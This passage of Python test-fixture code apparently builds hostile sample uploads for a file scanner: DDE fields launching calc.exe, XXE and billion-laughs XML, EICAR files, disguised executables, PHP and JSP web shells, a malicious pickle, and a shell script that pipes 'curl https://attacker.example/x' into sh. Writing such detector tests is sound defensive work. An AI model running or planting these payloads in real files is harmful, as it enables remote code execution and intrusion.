            "office_macros",
        ),
        _hostile(
            "memo.docx",
            bare_docx(field(" DDEAUTO c:\\\\windows\\\\cmd.exe ", '"/k calc.exe"')),
            "a DDEAUTO field",
            "office_dde",
        ),
        _hostile("rates.xlsx", xlsx("cmd|' /C calc.exe'!A0"), "a DDE formula", "office_dde"),
        _hostile(
            "links.xlsx",
            xlsx(extra={"xl/externalLinks/externalLink1.xml": DDE_LINK}),
            "a DDE external link",
            "office_dde",
        ),
        _hostile(
            "proposal.docx",
            remote_template(),
            "a remote template fetched on opening",
            "office_external_relationship",
        ),
        _hostile(
            "contract.docx",
            package({"[Content_Types].xml": _types({}), "word/document.xml": XXE}),
            "XXE in the document part",
            "xml_dtd",
        ),
        _hostile(
            "sheet.xlsx", package({"[Content_Types].xml": LAUGHS}), "billion laughs", "xml_dtd"
        ),
    )


def _eicar() -> tuple[Sample, ...]:
    return (
        _hostile("eicar.com.txt", EICAR, "EICAR as text", "malware_found", scanner=True),
        _hostile(
            "eicar_com.zip",
            zipped(EICAR),
            "EICAR inside a zip",
            "malware_found",
            scanner=True,
        ),
        _hostile(
            "eicar-attachment.pdf",
            pdf_with_attachment(EICAR),
            "EICAR attached to a PDF",
            "pdf_embedded_file",
            "malware_found",
            scanner=True,
        ),
    )


def _programs() -> tuple[Sample, ...]:
    return (
        _hostile("setup.exe", windows_executable(), "a Windows program", "executable"),
        _hostile("scan.pdf", windows_executable(), "a Windows program named .pdf", "executable"),
        _hostile("thumbnail.png", linux_executable(), "a Linux program named .png", "executable"),
        _hostile("avatar.jpg", WEBSHELL, "a PHP web shell named .jpg", "script"),
        _hostile(
            "install-notes.txt",
            b"#!/bin/sh\ncurl -s https://attacker.example/x | sh\n",
            "a shell script named .txt",
            "script",
        ),
        _hostile(
            "results.txt",
            b"#!/usr/bin/env python3\nimport os\nos.system('id')\n",
            "a Python script named .txt",
            "script",
        ),
        _hostile(
            "cmd.jsp",
            JSP_SHELL,
            "a JSP web shell",
            "extension_not_allowed",
        ),
        _hostile(
            "update.bat",
            b"@echo off\r\npowershell -enc AAAA\r\n",
            "a batch file",
            "extension_not_allowed",
        ),
        _hostile(
            "dataset.csv",
            pickle.dumps(_Payload(), protocol=4),
            "a pickle that runs a command when loaded",
            "pickle",
        ),
    )
